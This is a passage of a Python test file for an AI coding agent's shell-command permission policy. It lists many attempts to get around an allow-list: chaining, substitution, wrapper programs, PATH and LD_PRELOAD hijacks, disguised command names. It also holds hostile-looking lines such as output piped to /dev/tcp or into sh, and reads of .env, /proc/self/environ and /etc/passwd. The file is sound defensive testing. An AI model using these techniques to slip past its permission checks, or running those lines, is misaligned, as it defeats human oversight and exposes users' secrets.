"""Ways around an allow-list, one row each: what was tried, why it works elsewhere, and what is said to it here.

The rules allow `git diff`, `ls`, `make test` and `./run.sh`, and forbid `rm`. The mode is `auto-edit`, the widest that
still asks: commands that only read go, everything else asks.
"""

import time
from concurrent.futures import ThreadPoolExecutor
from functools import cache
from itertools import pairwise

import pytest

from outrider.permissions.policy.commands import MOST_OFFERED
from outrider.permissions.policy.rules import RUN, Rule, problem_of
from outrider.permissions.policy.ruling import named_parts
from outrider.permissions.shell.reading import read_command
from outrider.permissions.shell.tree import tree_of
from outrider.tools.run_command.command_line import look_at
from outrider.workspace.paths import folders_of
from permissions.looking import SECRET, assert_harmless, decision, looked_without_git
from sandboxes import in_both_worlds

RULES = [
    *(Rule("allow", RUN, command) for command in ("git diff", "ls", "make test", "./run.sh", "echo")),
    Rule("deny", RUN, "rm"),
    Rule("deny", RUN, "git push"),
]

ROWS = [
    # what goes
    ("git diff HEAD~1", "allow", "the rule itself, with further arguments"),
    ("git diff && ls -l", "allow", "each part has a rule"),
    ("ls | grep x", "allow", "a rule and a part that only reads"),
    ("cd sub && make test", "allow", "a folder of the workspace is still the workspace"),
    ("git status; git log --oneline | head -5", "sandbox", "only reads"),
    ("env LANG=C git diff", "allow", "a wrapper is looked through"),
    ("timeout 10 nice -n 5 make test 2>&1", "allow", "wrappers, and a copy of a descriptor"),
    ("bash -c 'make test && git diff'", "allow", "what a shell is given is read as a line"),
    ("make test >/dev/null", "allow", "what is thrown away is not written"),
    ("find . -name '*.py' -exec grep -l x {} \\;", "sandbox", "what find hands over are files of the workspace"),
    ("git diff $x", "ask", "the rule of the name alone is about reading, and $x may be --output"),
    # chains
    ("git diff; curl x", "ask", "a chain with ;"),
    ("git diff && curl x", "ask", "a chain with &&"),
    ("git diff || curl x", "ask", "a chain with ||"),
    ("git diff | sh", "ask", "a pipe into a shell"),
    ("git diff & curl x", "ask", "the background"),
    ("git diff\ncurl x", "ask", "a second line"),
    ("git diff |& curl x", "ask", "a pipe of both outputs"),
    ("(git diff; curl x)", "ask", "a subshell"),
    ("{ git diff; curl x; }", "ask", "a group"),
    ("! curl x", "ask", "a negation"),
    ("if git diff; then curl x; fi", "ask", "a condition"),
    ("while curl x; do ls; done", "ask", "a loop"),
    ("for f in a; do curl $f; done", "ask", "a loop over words"),
    ("case a in a) curl x;; esac", "ask", "a case"),
    ("coproc curl x", "ask", "a coprocess"),
    ("git() { curl x; }; git diff", "ask", "a function that stands in for the program"),
    # substitutions
    ("git diff $(curl x)", "ask", "a substitution"),
    ("git diff `curl x`", "ask", "backquotes"),
    ('git diff "$(curl x)"', "ask", "a substitution in quotes"),
    ('git diff "`curl x`"', "ask", "backquotes in quotes"),
    ("git diff <(curl x)", "ask", "a process substitution"),
    ("git diff ${x:-$(curl x)}", "ask", "a substitution in a default"),
    ("git diff $((a[$(curl x)]))", "ask", "a substitution in a sum"),
    ("git diff $((x))", "ask", "a sum evaluates what its variables hold"),
    ("git diff ${x@P}", "ask", "a prompt expansion runs substitutions"),
    ("git diff ${!x}", "ask", "an indirect expansion"),
    ("git diff <<EOF\n$(curl x)\nEOF", "ask", "a here-document that expands"),
    ("git diff <<EOF\n`curl x`\nEOF", "ask", "backquotes in a here-document, which the grammar does not show"),
    ("ls <<'EOF'\n$(curl x)\nEOF", "allow", "a here-document that does not expand"),
    ("ls <<'EOF'\nEOF\ncurl x", "ask", "what follows a here-document"),
    ("ls <<EOF\na\n EOF\ncurl x\nEOF", "ask", "an indented end is no end, which the grammar sees otherwise"),
    ("git diff <<< $(curl x)", "ask", "a substitution in a here-string"),
    ("[[ -n $(curl x) ]] && ls", "ask", "a substitution in a test"),
    ('[[ $x -eq 1 ]] && ls', "ask", "a test that counts evaluates its words"),
    ("[ -v 'a[$(curl x)]' ]", "ask", "a test for a variable evaluates its name"),
    ("x=$(curl x) ls", "ask", "a substitution in an assignment"),
    ("printf -v 'a[$(curl x)]' y", "ask", "printf evaluates the name of a variable"),
    ("ls 2>$(curl x)", "ask", "a substitution in a redirection"),
    # what is not known before it runs
    ("$x", "ask", "a variable as a program"),
    ("git$IFS'diff'", "ask", "a variable inside a program's name"),
    ("$(echo git) diff", "ask", "a substitution as a program"),
    ("gi? diff", "ask", "a pattern as a program"),
    ("{git,diff}", "ask", "braces as a program"),
    ("~/git diff", "ask", "a home folder as a program"),
    ("eval git diff", "ask", "eval"),
    ("source ./run.sh", "ask", "source"),
    (". ./run.sh", "ask", "the dot"),
    ("trap 'curl x' EXIT; ls", "ask", "a trap"),
    ("alias ls=curl; ls", "ask", "an alias"),
    ("enable -f x ls; ls", "ask", "a builtin that is loaded"),
    ("hash -p /tmp/x ls; ls", "ask", "a program that is remembered elsewhere"),
    ("set -- ; set -o posix; ls", "ask", "another way of reading"),
    ("shopt -s expand_aliases; ls", "ask", "aliases are switched on"),
    ("git diff 'x", "ask", "a quote that is not closed"),
    ("git diff )", "ask", "a line that cannot be read"),
    ("git diff >", "ask", "a redirection without a target"),
    # how it is written
    ("r\\m x", "deny", "an escaped letter is the same program"),
    ("'r'm x", "deny", "quotes in a name"),
    ("$'\\x72m' x", "deny", "a name in ANSI-C quotes"),
    ("/bin/rm x", "deny", "a path to the program"),
    ("git\\\n diff; curl x", "ask", "a line that is continued"),
    ("g\\\nit diff", "ask", "a line that is continued within a word"),
    ("git\rdiff", "ask", "a carriage return is no blank"),
    ("git\u00a0diff", "ask", "a blank that bash does not split at"),
    ("git\u200b diff", "ask", "a character that cannot be seen"),
    ("gіt diff", "ask", "a letter of another alphabet"),
    ("ls # x\ncurl x", "ask", "a comment ends with its line"),
    ("ls#\ncurl x", "ask", "a # within a word is no comment"),
    ("\"git diff\"", "ask", "one word is not two"),
    ("GIT DIFF", "ask", "letters count"),
    # wrappers
    ("env rm x", "deny", "env"),
    ("env -S 'curl x'", "ask", "env that splits a text"),
    ("sudo git diff", "ask", "as somebody else it is another command"),
    ("doas git diff", "ask", "as somebody else"),
    ("su -c 'git diff'", "ask", "as somebody else"),
    ("sudo rm x", "deny", "what is forbidden stays so"),
    ("xargs rm", "deny", "xargs"),
    ("ls | xargs curl", "ask", "xargs with a program without a rule"),
    ("ls | xargs -I{} sh -c '{}'", "ask", "xargs that fills in a line"),
    ("find . -exec rm {} +", "deny", "find that runs a program"),
    ("find . -execdir curl {} \\;", "ask", "find that runs one elsewhere"),
    ("find . -ok rm {} \\;", "deny", "find that asks nobody here"),
    ("find . -delete", "ask", "find that deletes"),
    ("find . -fprint /tmp/x", "ask", "find that writes"),
    ("sh -c 'rm x'", "deny", "a shell in a shell"),
    ("bash -c \"bash -c 'rm x'\"", "deny", "two shells in a shell"),
    ("bash -lc ls", "ask", "a login shell reads start files"),
    ("bash -c \"$x\"", "ask", "a text that is not known"),
    ("bash < x", "ask", "a shell that runs its input"),
    ("python3 - <<'EOF'\nimport os\nEOF", "ask", "an interpreter that runs its input"),
    ("zsh -c 'git diff'", "ask", "another shell reads a line in its own way"),
    ("sh -c 'git diff &> x'", "ask", "sh reads this as two commands"),
    ("nohup rm x", "deny", "nohup"),
    ("timeout 5 rm x", "deny", "timeout"),
    ("nice rm x", "deny", "nice"),
    ("stdbuf -o0 rm x", "deny", "stdbuf"),
    ("setsid rm x", "deny", "setsid"),
    ("time rm x", "deny", "time"),
    ("command rm x", "deny", "command"),
    ("builtin eval x", "ask", "builtin"),
    ("exec rm x", "deny", "exec"),
    ("watch rm x", "deny", "watch"),
    ("parallel rm ::: x", "ask", "parallel is not looked through"),
    ("strace git diff", "ask", "a tracer is not looked through"),
    ("git -c core.pager=x diff", "ask", "git with a setting for this once"),
    ("git --exec-path=/tmp diff", "ask", "git with other programs"),
    ("git -C /x push", "deny", "an option before what is forbidden"),
    ("git $x", "ask", "it could be what is forbidden"),
    ("until curl x; do ls; done", "ask", "a loop the other way around"),
    ("select x in a; do ls; curl x; done", "ask", "a menu"),
    ("function ls { curl x; }; ls", "ask", "a function in the other way of writing"),
    ("for ((i=0; i<1; i++)); do ls; done", "ask", "a loop that counts"),
    ("ls; exec git diff", "allow", "exec gives way to what it names"),
    ("sudo -u ada git diff", "ask", "as somebody else, by name"),
    ("nohup sh -c 'rm x' &", "deny", "two wrappers in the background"),
    ("env -i git diff", "ask", "without its environment git may be another one"),
    ("env -u PATH git diff", "ask", "a variable that is taken away"),
    ("env -vu PATH git diff", "ask", "the same, beside another option"),
    ("env --unset=GIT_PAGER git diff", "ask", "the same, written out"),
    ("env -u LANG git diff", "allow", "a variable that changes no program"),
    ("xargs -a x git diff", "ask", "the file may bring --output"),
    ("busybox rm x", "ask", "a program that is many programs"),
    ("/lib/ld-linux-x86-64.so.2 /bin/ls", "ask", "the loader starts a program"),
    # words that become several
    ("x='1 rm'; timeout 5$x ls", "ask", "a value that splits brings the program with it"),
    ("x='1 rm'; env LANG=$x ls", "ask", "an argument is no assignment of the shell: it splits"),
    ('x=1; env LANG="$x" git diff', "ask", "words from a file that is not known"),
    ("timeout -k 1$(echo) 5 ls", "ask", "a substitution splits too"),
    ("x='PATH=/tmp'; command export LANG=1$x; ls", "ask", "behind command an export splits"),
    ("x='1 --output=y'; git log --since $x", "ask", "the value of an option brings another option"),
    ("x='1 -o y'; sort -k $x a.py", "ask", "the same, with a letter"),
    ("x='1 --pre=curl'; rg -A $x y", "ask", "the same, and it runs"),
    ("x='y -f /etc/passwd'; grep a$x a.py", "ask", "a pattern brings an option"),
    ("sort -k * a.py", "ask", "a glob as a value may be several files"),
    ('x=1; sort -k "$x" a.py', "sandbox", "in quotes it is one word"),
    ('sort -k "$@" a.py', "ask", "the positional parameters are several words in quotes too"),
    ("x='; -delete -exec ls'; find . -exec ls a$x \\;", "ask", "an argument ends what find runs"),
    ("x='; -delete -exec ls'; find . -exec ls \"$x\" \\;", "ask", "the same, as one word"),
    ("x='p;w y'; sed -n $x a.py", "ask", "a script that is not known"),
    # variables
    ("LD_PRELOAD=./x.so git diff", "ask", "a library that is loaded first"),
    ("PATH=/tmp git diff", "ask", "another git"),
    ("GIT_EXTERNAL_DIFF=curl git diff", "ask", "git runs what a variable says"),
    ("GIT_SSH_COMMAND=x git diff", "ask", "git runs what a variable says"),
    ("PATH=/tmp; git diff", "ask", "another git, from now on"),
    ("export PATH=/tmp; git diff", "ask", "the same"),
    ("declare -x PATH=/tmp; git diff", "ask", "the same"),
    ("for PATH in /tmp; do git diff; done", "ask", "a loop that sets it"),
    ("read PATH; git diff", "ask", "it is read"),
    ("env PATH=/tmp git diff", "ask", "env sets it"),
    ("CI=1 git diff", "allow", "a variable that changes no program"),
    ("unset PATH; git diff", "ask", "it is taken away"),
    ("BASH_ENV=x bash -c 'git diff'", "ask", "a file that a shell runs first"),
    # redirections
    ("git diff > x", "ask", "a file is written"),
    ("git diff >> x", "ask", "a file is added to"),
    ("git diff >| x", "ask", "a file is written against noclobber"),
    ("git diff &> x", "ask", "both outputs are written"),
    ("git diff 2> x", "ask", "errors are written"),
    ("git diff <> x", "ask", "a file is opened for both"),
    ("git diff > /dev/tcp/h/1", "ask", "a connection"),
    ("git diff < /dev/tcp/h/1", "ask", "a connection that is read"),
    ("git diff {fd}> x", "ask", "a descriptor with a name"),
    ("(git diff) > x", "ask", "the output of a group"),
    ("echo x > .git/hooks/pre-commit", "ask", "echo has a rule, the file has none"),
    # programs that mostly read
    ("git branch -D x", "ask", "it deletes"), ("git branch x", "ask", "it makes"), ("git branch -a", "sandbox", "it lists"),
    ("git diff --output=x", "ask", "it writes, and the rule of the name alone is about reading"), ("git diff --ext-diff", "ask", "it runs"),
    ("git diff --stat -- sub", "allow", "it reads"),
    ("git log --output=x", "ask", "it writes"), ("git log --ext-diff", "ask", "it runs"), ("git show --textconv", "ask", "it runs"),
    ("git grep -O x", "ask", "it opens a pager"), ("git stash list", "sandbox", "it lists"), ("git stash", "ask", "it changes"),
    ("git config --get user.name", "sandbox", "it reads"), ("git config user.name x", "ask", "it writes"),
    ("git remote -v", "sandbox", "it lists"), ("git remote add x y", "ask", "it writes"), ("git fetch", "ask", "it reaches out"),
    ("git foo", "ask", "an alias of the repository"), ("git tag x", "ask", "it makes"), ("git tag -l 'v*'", "sandbox", "it lists"),
    ("sed -n 1,5p a.py", "allow", "it shows"), ("sed -i s/a/b/ a.py", "ask", "it writes"), ("sed 's/a/b/w x' a.py", "ask", "it writes"),
    ("sed 's/a/curl/e' a.py", "ask", "it runs"), ("sed '1e curl' a.py", "ask", "it runs"), ("sed -f x a.py", "ask", "a script that is not seen"),
    ("sed -n 's/x/y/w/tmp/g' a.py", "ask", "it writes: the third delimiter ends the substitution, not the last one"),
    ("sed 's/x/y/;e curl x /p' a.py", "ask", "it runs, between delimiters"), ("sed 's|a/b|c|g' a.py", "allow", "it shows, with another delimiter"),
    ("sed -n '/a/p;w x' a.py", "ask", "it writes"),
    ("sed -n '/[/p;s/]/ w y/p' a.py", "ask", "a slash in brackets, which not every sed takes for the end: it writes"), ("sed 's/a\\/b/c/w x' a.py", "ask", "it writes, behind an escaped slash"),
    ("sed '/a/{p;w x\n}' a.py", "ask", "it writes, in a group"), ("sed -ne 'w x' a.py", "ask", "it writes, behind two letters"), ("sed '/a/r /etc/passwd' a.py", "ask", "it reads outside"), ("sed s/a/b/g a.py", "allow", "it shows"), ("sed 1ecurl a.py", "ask", "it runs"),
    ("sort a.py", "allow", "it reads"), ("sort -o x a.py", "ask", "it writes"), ("sort --output=x a.py", "ask", "it writes"),
    ("sort --compress-program=curl a.py", "ask", "it runs"), ("uniq a.py x", "ask", "its second operand is written"),
    ("awk '{system(\"x\")}' a.py", "ask", "it runs"), ("awk 1 a.py", "allow", "it prints"), ("awk -f x a.py", "ask", "a program that is not seen"),
    ("awk '{print > \"x\"}' a.py", "ask", "it writes"), ("awk '{print | \"sh\"}' a.py", "ask", "it runs"), ("awk '{print ($1) > \"x\"}' a.py", "ask", "it writes"),
    ("awk '{print \"a\",\n\"b\" > \"x\"}' a.py", "ask", "it writes, on the next line"), ("awk 'BEGIN{ARGV[1]=\"/etc/passwd\";ARGC=2} 1' a.py", "ask", "it reads outside"),
    ("awk '{getline x < \"/etc/passwd\"; print x}' a.py", "ask", "it reads outside"), ("awk 'BEGIN{f=\"system\"; @f(\"x\")}'", "ask", "it runs, by another name"),
    ("awk '{a=b() /c; print \"x\" > \"/d\"}' a.py", "ask", "a division that looks like a pattern hides that it writes"), ("awk '/[/\"]/{print 1} /\" > \"y/' a.py", "ask", "a slash in brackets, which not every awk takes for one"),
    ("awk '{print ENVIRON[\"x\"]}' a.py", "ask", "it shows the environment"), ("awk '@load \"x\"' a.py", "ask", "it loads a library"), ("awk -i inplace 1 a.py", "ask", "it writes"),
    ("awk \"{print $1}\" a.py", "ask", "a program that is not known"), ("awk 1 /etc/passwd", "ask", "outside"), ("awk -F'{print > \"x\"}' 1 a.py", "allow", "a separator is no program"),
    ("rg --pre curl x", "ask", "it runs"), ("rg x sub", "sandbox", "it reads"), ("rg x", "ask", "it comes to what is shut"), ("rg -z x", "ask", "it runs unpackers"),
    ("tar -tf x", "ask", "it can run programs"), ("less a.py", "ask", "it is no reader alone"), ("man ls", "ask", "it runs a pager"),
    ("tee x", "ask", "it writes"), ("date", "allow", "it tells"), ("date -s 1", "ask", "it sets"), ("hostname x", "ask", "it sets"),
    ("xxd -r a x", "ask", "it writes"), ("xxd -ps a.py x", "ask", "it writes: -ps takes no value"), ("xxd -l 8 a.py", "sandbox", "it shows"), ("tree -o x", "ask", "it writes"), ("curl x", "ask", "it reaches out"),
    ("cat a.py", "allow", "it reads"), ("cat --unknown a.py", "allow", "cat has no option that does harm"), ("cat $x", "ask", "it could be any file"),
    ("cat \"$x\"", "ask", "it could be an option"), ("cat *.py", "allow", "the files that it stands for are in the workspace"),
    ("set", "ask", "it shows the environment"), ("set -e; ls", "allow", "it only stops at a failure"), ("declare -p", "ask", "it shows the variables"),
    ("env", "ask", "it shows the environment"), ("printenv", "ask", "it shows the environment"),
    # a value that is none, and a file that is no value
    ("git diff HEAD~1 -M", "allow", "the rule itself"), ("git log -M --output=x", "ask", "-M takes its value in the same word, so the next one is an option: it writes"),
    ("git show -U --output=x", "ask", "the same"), ("git log -p -M90% -U5 -- a.py", "sandbox", "their values are where they belong"),
    ("git blame -C --contents=/etc/passwd a.py", "ask", "the same, and it reads outside"), ("git blame -S /etc/passwd a.py", "ask", "a file that is shown in the errors about it"),
    ("git shortlog --since -- --output=x HEAD", "ask", "-- is the value of an option, so options go on behind it"),
    ("git log --stat -- -x", "ask", "a version of git may take -- for a value"), ("git log --stat -- a.py", "sandbox", "no option could stand there"),
    ("git log -n -- --output=x", "ask", "no number"), ("head -n -5 a.py", "allow", "a number"), ("grep -e -x a.py", "allow", "a pattern may look like an option"),
    ("git log --format=%''G?", "ask", "quotes within what has signatures looked at"), ("git for-each-ref '--format=%('raw')'", "ask", "quotes within what shows an object"),
    ("x='%(raw)'; git for-each-ref --format \"$x\"", "ask", "a format that is not known"), ("git branch --list --sort x -D y", "ask", "it deletes"),
    ("date -I -s12:00", "ask", "-I takes its value in the same word, so the clock is set"), ("date -I --set=12:00", "ask", "the same"), ("date -d +x 01010000", "ask", "the same"),
    ("date -Iseconds -d yesterday", "allow", "it tells"), ("od -w /etc/passwd", "ask", "a width stands in the same word"), ("od -w16 a.py", "allow", "such as here"),
    ("xxd -cols=1 -s a.py x", "ask", "the value of -cols is the next word, and the last file is written"), ("xxd -seek=1 -c a.py x", "ask", "the same"),
    ("tree -Io x y", "ask", "behind a letter with a value options go on: it writes"), ("tree -aL 2", "sandbox", "no option behind the letter"),
    ("strings -n @a.py", "ask", "options from a file, wherever its name stands"), ("x=@a.py; strings -n \"$x\"", "ask", "the same, in a variable"),
    ("uniq a*", "ask", "a pattern may stand for two files, and the second is written"), ("xxd a*", "ask", "the same"),
    ("cd odd && rg *", "ask", "a pattern in the place of what is looked for brings a file --pre=touch, an option that runs it"),
    ("cd odd && git grep *", "ask", "the same"), ("cd odd && grep o*", "ask", "a pattern brings a link that leads out"), ("grep a.* a.py", "sandbox", "the files are harmless"),
    ("cat .*", "ask", "it may stand for the folder above"), ("cd sub && cat .?/a.py", "ask", "the same"),
    ("xxd - -autoskip", "ask", "xxd sees no options behind its first operand: the second is written"), ("xxd sub --", "ask", "the same"), ("uniq a.py -c", "ask", "uniq of other systems neither"),
    ("head a.py -n /etc/passwd", "ask", "the same: the value of an option would be a file"), ("head a.py -n 5", "allow", "one that does not lead out"),
    # what is read from elsewhere
    ("xargs -a /etc/passwd -I{} echo x{}", "allow", "the rule is about any arguments, from a file too"), ("xargs -a /etc/passwd -I{} basename x{}", "ask", "arguments from outside"),
    ("xargs --arg-file=/etc/passwd -I{} basename x{}", "ask", "the same"), ("xargs -a .env -I{} echo x{}", "ask", "from a file that is shut"), ("xargs -a a.py -I{} basename x{}", "sandbox", "from the workspace"),
    ("ls | xargs -I x cat x", "ask", "a mark that looks like a file"), ("ls | xargs -I a.py cat a.py -I x", "ask", "options behind the program are the program's"),
    ("ls | xargs -0I a.py tail a.py", "ask", "a mark behind other letters"),
    # variables that a builtin sets
    ("printf 'a%n' PATH; ls", "ask", "%n sets the variable that it is given"), ("printf '%-*n' 3 PATH; ls", "ask", "the same, with a width"),
    ("printf \"a$x\" PATH", "ask", "a format that is not known"), ("printf '100%%n %s' x", "allow", "no %n"),
    ("x=-v; [ 1 -a \"$x\" 'a[$(curl x)]' ]; ls", "ask", "a word that turns out to be -v"), ("x=-v; test 1 -a \"$x\" 'a[$(curl x)]'", "ask", "the same"),
    # where it reads
    ("cat /etc/passwd", "ask", "outside"), ("cat ../x", "ask", "outside"), ("cat link", "ask", "a link that leads out"),
    ("cat l*k", "ask", "a pattern that meets the link"), ("cat .env", "ask", "it may hold keys"), ("cat ~/x", "ask", "outside"),
    ("head -n1 < /etc/passwd", "ask", "its input is outside"), ("grep -f /etc/passwd a.py", "ask", "its patterns are outside"),
    ("grep -r x sub", "sandbox", "below the workspace"), ("grep -r x .", "ask", "below it lies a file that may hold keys"),
    ("grep x -d recurse .", "ask", "the same, written out"), ("grep -r x", "ask", "the folder where it is"), ("rg -. x deep", "sandbox", "with hidden files"),
    ("rg -g 'k*' x private", "ask", "a glob"), ("rg -g '.e*' x", "ask", "a glob brings a hidden file along"), ("rg --iglob '*.ENV' x", "ask", "the same"),
    ("rg -ng'.e*' x deep", "sandbox", "below a folder without one"),
    ("LANGUAGE=../../x ls", "ask", "words of a stranger, in which programs fill in"), ("env LC_ALL=/x ls", "ask", "the same, by another program"),
    ("export LANG=$x; ls", "ask", "what is not known"), ("TZ=:/x date", "ask", "a file as a time zone"), ("LC_ALL=C.UTF-8 TZ=Europe/Berlin LANG= ls", "allow", "names"),
    ("rg x s*", "sandbox", "below a folder that a pattern stands for"), ("diff -r deep way", "sandbox", "below two folders"),
    ("diff -r . sub", "ask", "it follows links on its way"), ("diff sub/../a.py a.py", "sandbox", "two files"),
    ("cat private/a", "ask", ".outriderignore shuts it"), ("cat out-of-private", "ask", "a link to it"), ("cat priv*/a", "ask", "a pattern that meets it"),
    ("grep -r x private", "ask", "below a folder that is shut"), ("md5sum -c a.py", "ask", "a list names files that are anywhere"),
    ("strings @a.py", "ask", "a file that names options"),
    ("git diff .env", "ask", "the rule is about git diff, and not about a file that is shut"), ("echo < .env", "ask", "the same"),
    ("ls --ignore-file=.env", "ask", "within an option"), ("make test FILE=.env", "ask", "behind a sign"), ("echo a:b .env.example", "allow", "it only says so"),
    ("echo > .env", "ask", "it is written over"), ("echo secrets.toml", "allow", "a word that is no file"), ("grep -R x .", "ask", "it follows links"), ("find -L .", "ask", "it follows links"),
    ("cat /proc/self/environ", "ask", "the environment of the process"), ("cd / && cat etc/passwd", "ask", "it went elsewhere"),
    ("cd sub; cat ../a.py", "ask", "where it is after that is not certain"), ("cd sub && cat ../a.py", "allow", "still inside"),
    ("cd sub && cat ../../x", "ask", "outside"), ("cd $x && make test", "ask", "a folder that is not known"),
    ("cd sub && command cd .. && cat ../x", "ask", "it went on, behind command"), ("cd sub && builtin cd .. && cat ../x", "ask", "the same"),
    ("cd sub && bash -c 'cd .. && cat ../x'", "ask", "it went on in a shell"), ("cd sub && env -C .. cat ../x", "ask", "env goes elsewhere"),
    ("cd way/.. && cat ../a.py", "ask", "after a link, .. is not where the path says"), ("cd ./sub && cat ../a.py", "allow", "still inside"),
    ("(cd sub && ls) && cat ../x", "ask", "a group went there, and not what follows it"), ("{ cd sub && ls; } && cat ../x", "ask", "another group"),
    ("! cd sub && cat ../x", "ask", "it goes on where it could not go there"), ("for f in a b; do cd sub && cat ../x; done", "ask", "the second time it starts elsewhere"),
    ("cd sub && cat <<EOF || cat ../x\na\nEOF", "ask", "it goes on in the line of a here-document"), ("while cd sub; do cat ../x; done", "ask", "it goes on and on"),
    ("cd nope && ls || cat ../x", "ask", "it goes on where it could not go there"), ("cd sub | cat ../x", "ask", "another shell went there"), ("cd sub & cat ../x", "ask", "another shell went there"),
    ("cd sub; make test", "allow", "here or there, both are the workspace"), ("cd sub && ls && cd .. && cat a.py", "allow", "there and back"), ("cd sub && cd .. && cat ../x", "ask", "there, back, and out"),
    ("cd way && cd .. && cat a.py", "allow", "bash goes back to where the link lies"), ("(cd sub && ls); ls", "allow", "here or there"), ("bash -c 'cd sub; ls'", "ask", "a shell in a shell"),
    ("git -C sub status", "sandbox", "it goes to a folder of the workspace"), ("git -C .. status", "ask", "outside"), ("git -C sub diff ../../x", "ask", "outside, from there"), ("git -C sub push", "deny", "what is forbidden stays so"),
    # names of files that a pattern brings
    ("printf %s /home/*", "ask", "it would show names of files outside"), ("printf '%s' ../*", "ask", "the same"), ("dirname /home/*/.*", "ask", "the same"), ("printf %s *.py", "allow", "names of the workspace"),
    ("x='/home/*'; printf %s $x", "ask", "a pattern in a variable"), ("x='/home/*'; printf %s \"$x\"", "allow", "in quotes it is none"), ("printf %s $(date +%F) $HOME $?", "sandbox", "what is filled in holds no pattern"),
    ("printf %s $(printf '/home/*')", "ask", "a pattern that is filled in"), ("printf %s $(date '+/home/*')", "ask", "the same"),
    # loops over words that are known
    ("for f in a.py sub; do stat \"$f\"; done", "allow", "each of the words"), ("for f in a.py /etc/passwd; do cat \"$f\"; done", "ask", "one of them is outside"),
    ("for f in a.py -o; do sort $f; done", "ask", "one of them is an option"), ("for f in 'a /etc/passwd'; do cat $f; done", "ask", "outside of quotes it is two words"),
    ("for f in *.py; do cat \"$f\"; done", "allow", "files of the workspace"), ("for f in l*k; do cat \"$f\"; done", "ask", "a link that leads out"), ("for f in *.py; do cat $f; done", "ask", "a name may be two words"),
    ("for f in a; do f=/etc/passwd; cat $f; done", "ask", "it is set in its own loop"), ("for f in a; do read f; cat $f; done", "ask", "the same"), ("for f in a; do command export f=/etc/passwd; cat $f; done", "ask", "the same"),
    ("for f in a; do for f in /etc/passwd; do :; done; cat $f; done", "ask", "the same, by a loop"), ("for f in a; do : ${f:=/etc/passwd}; unset f; cat $f; done", "ask", "the same"),
    ("for f in rm; do $f x; done", "deny", "a program in a variable is known here"), ("for f in a b; do rm $f; done", "deny", "what is forbidden stays so"), ("for f in 'a; curl x'; do bash -c \"$f\"; done", "ask", "a text for a shell"),
    ("for f in $x; do cat $f; done", "ask", "words that are not known"), ("for f in a; do ls; done; cat \"$f\"", "ask", "behind the loop nobody knows"), ("for f in -delete; do find . $f; done", "ask", "an option"),
    ("cat {a,b}.py", "allow", "braces that stand for files of the workspace"), ("cat {a.py,/etc/passwd}", "ask", "one of them is outside"), ("sort {a.py,-o,x}", "ask", "one of them is an option"),
    ("find . -{print,delete}", "ask", "the same"), ("cat {a,$x}", "ask", "braces that hold what is not known"), ("cat {1..3}.py", "allow", "braces that count"),
    ("while read -r f; do printf %s \"$f\"; done < a.py", "allow", "it shows what it reads"), ("while read -r f; do cat \"$f\"; done < a.py", "ask", "files that a file names"),
    ("[[ -f a.py ]]", "allow", "a test alone"), ("[[ -e /etc/passwd ]]", "ask", "outside"), ("[ -n \"$x\" ] && ls", "sandbox", "a test of a text"), ("[ -f \"$x\" ] && ls", "ask", "a test of a file that is not known"),
    # versions
    ("python3 --version", "sandbox", "it tells"), ("python3 --version x", "ask", "it runs a file"), ("python3 -m pip list", "ask", "it loads a module of the folder where it is"), ("pip list --outdated", "ask", "it reaches out"),
    ("mvn -v", "ask", "it obeys .mvn/jvm.config"), ("yarn --version", "ask", "it runs the one that .yarnrc names"), ("pytest --version", "ask", "it loads conftest.py"), ("node --version", "sandbox", "it tells"),
    ("fd x -x curl", "ask", "it runs"), ("fd -l x", "ask", "it runs ls"), ("fd -e py . sub", "sandbox", "it shows names"), ("ls -R", "allow", "it shows names"), ("egrep x a.py", "allow", "grep by another name"),
    ("grep -r x --include=*.py sub", "sandbox", "whatever it stands for is a value"), ("grep x --file=* a.py", "ask", "it may stand for a file that is read"), ("sort --key=* a.py", "sandbox", "a value"),
    ("jq '.a[] | select(.b > 1)' a.py", "sandbox", "it takes a value apart"), ("jq '.a | env' a.py", "ask", "it shows the environment"), ("jq -n '[inputs]' a.py", "ask", "further texts"), ("jq --slurpfile a /etc/passwd . a.py", "ask", "a file outside"),
    ("git config user.name", "sandbox", "it shows"), ("git config get user.name", "sandbox", "it shows"), ("git config --get x --unset", "ask", "it writes"), ("git config set a.b c", "ask", "it writes"), ("git config -f /etc/passwd --list", "ask", "another file"),
    ("git symbolic-ref HEAD", "sandbox", "it shows"), ("git symbolic-ref HEAD refs/heads/x", "ask", "it writes"), ("git branch --merged", "sandbox", "it lists"), ("git branch --merged -D x", "ask", "it deletes"),
    # what looks for what is wrong, whatever starts it
    ("black --check a.py", "sandbox", "it looks"), ("black a.py", "ask", "it writes"), ("isort -c a.py", "sandbox", "it looks"), ("isort a.py", "ask", "it writes"),
    ("eslint sub -f json", "sandbox", "it looks"), ("eslint --fix sub", "ask", "it writes"), ("eslint -o x sub", "ask", "it writes"), ("eslint --fi sub", "ask", "an option cut short"),
    ("pnpm exec eslint --fix-dry-run sub", "sandbox", "it only says what it would write"), ("bunx prettier --check sub", "sandbox", "it looks"), ("npx prettier sub -w -c", "ask", "it writes too"),
    ("prettier sub", "ask", "not known to only look"), ("npx -y prettier --check sub", "ask", "it installs"), ("npx -c 'prettier --check sub'", "ask", "a text for a shell"),
    ("npx $x --check sub", "ask", "a program that is not known"), ("npx jest", "ask", "it runs the project"), ("npx $x", "ask", "the same"), ("npx", "ask", "nothing is named"),
    ("tsc --noEmit -p .", "sandbox", "it looks"), ("tsc -p .", "ask", "it writes"), ("npx tsc -b --noEmit", "ask", "it writes what it found out"), ("poetry run tsc --noEmit", "sandbox", "it looks"),
    ("python3 -m flake8 a.py", "sandbox", "it looks"), ("python3 -m pytest", "ask", "it runs the project"), ("python3 -m $x", "ask", "a module that is not known"),
    ("python3 -m http.server", "ask", "it serves"), ("python3 -c 1 -m mypy", "ask", "it runs a text"), ("uv run ruff format --check .", "sandbox", "it looks"),
    ("uv run --with x ruff format --check .", "ask", "it installs"), ("uv run ruff format .", "ask", "it writes"), ("uv run a.py", "ask", "it runs a file"),
    ("cargo fmt --check", "sandbox", "it looks"), ("cargo fmt", "ask", "it writes"), ("cargo tree", "sandbox", "it lists"), ("cargo test", "ask", "it runs the project"),
    ("gcc -fsyntax-only a.c", "sandbox", "it looks"), ("gcc a.c", "ask", "it writes"), ("gcc -fsyntax-only -fplugin=./x.so a.c", "ask", "it loads a library"),
    ("clang-format a.c", "sandbox", "it shows"), ("clang-format -i a.c", "ask", "it writes"), ("shfmt -d a.sh", "sandbox", "it shows"), ("shfmt -w a.sh", "ask", "it writes"),
